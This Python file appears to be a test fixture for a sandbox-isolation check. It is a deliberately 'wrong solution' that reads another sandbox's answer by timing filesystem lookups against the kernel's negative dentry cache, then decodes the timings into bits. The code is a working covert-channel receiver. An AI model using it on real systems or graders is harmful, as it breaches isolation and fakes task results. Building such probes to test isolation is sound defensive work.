# A wrong solution: it computes nothing; it times the first lookup of the names another
# sandbox's right solution may have looked up (see dcache_leaker.py): a name the kernel has
# a negative dentry for is found missing faster than a name never looked up. Fresh control
# names give the slow time, their second lookups the fast one; a bit is set when the median
# of its 8 names is nearer the fast one.
import os
import statistics
import time


def first_lookup_ns(path):
    started = time.perf_counter_ns()
    try:  # noqa: SIM105 -- the cheapest way to time one lookup
        os.stat(path)
    except OSError:
        pass
    return time.perf_counter_ns() - started


_, channel = input().split()
home = os.path.dirname(os.path.realpath(os.__file__))
controls = [os.path.join(home, f"rt{channel}_c_{k}") for k in range(32)]
cold = statistics.median(first_lookup_ns(p) for p in controls)
warm = statistics.median(first_lookup_ns(p) for p in controls)
threshold = (cold + warm) / 2
answer = 0
for bit in range(15):
    times = [first_lookup_ns(os.path.join(home, f"rt{channel}_{bit}_{k}")) for k in range(8)]
    if statistics.median(times) < threshold:
        answer |= 1 << bit
print(answer)
